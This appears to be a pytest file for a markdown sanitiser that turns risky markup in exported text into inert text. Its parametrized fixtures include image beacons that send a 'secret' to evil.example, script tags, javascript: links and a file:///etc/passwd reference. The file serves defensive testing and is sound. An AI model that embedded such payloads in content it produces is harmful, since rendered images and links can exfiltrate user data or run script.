import pytest
from hypothesis import given
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.export.inert import inert
from app.export.parsing import LONGEST
from tests.export.samples import RICH, markdowns


class Careless(MarkdownIt):
    """A viewer that follows everything."""

    def validateLink(self, url: str) -> bool:  # noqa: N802 - markdown-it's name
        return bool(url)


def fetched(markdown: str) -> list[Token]:
    """What a viewer would fetch, run or open from a scheme of its own."""
    tokens = Careless("js-default", {"html": True}).parse(markdown)
    every = [*tokens, *(child for token in tokens for child in token.children or [])]
    return [
        token
        for token in every
        if token.type in {"image", "html_block", "html_inline"}
        or (token.type == "link_open" and not str(token.attrs["href"]).startswith(("http://", "https://", "mailto:")))
    ]


@pytest.mark.parametrize(
    "harmful",
    [
        "![p](https://evil.example/?q=secret)",
        "![p][r]\n\n[r]: https://evil.example/p",
        "a <img src=https://evil.example> b",
        "<script>\nalert(1)\n</script>",
        "[x](javascript:alert(1))",
        "[x][r]\n\n[r]: file:///etc/passwd",
        "<ms-word:ofe|u|https://evil.example>",
        "> - ![p](https://evil.example)",
        "| a |\n|---|\n| ![p](https://evil.example) |",
    ],
)
def test_what_would_reach_out_becomes_text(harmful: str) -> None:
    assert fetched(harmful)
    assert not fetched(inert(harmful))
    assert "evil.example" in inert(harmful) or "evil.example" not in harmful


def test_harmless_text_stays_as_it_is() -> None:
    assert inert(RICH) == RICH


def test_a_good_link_beside_a_bad_one_stays_a_link() -> None:
    good = "[a](https://example.com/x) <https://example.org>"
    assert inert(f"{good} [x](javascript:alert(1)) <b>") == f"{good} [x]\\(javascript:alert(1)) &lt;b>"


@given(markdowns)
def test_nothing_harmful_is_left_of_any_text(markdown: str) -> None:
    assert not fetched(inert(markdown))


def test_a_text_that_takes_too_long_to_read_is_shown_as_code() -> None:
    for text in ("![p](https://e.example)````" * 6000, "words ````" * LONGEST):
        shown = inert(text)
        assert shown.startswith("`````\n")
        assert not fetched(shown)
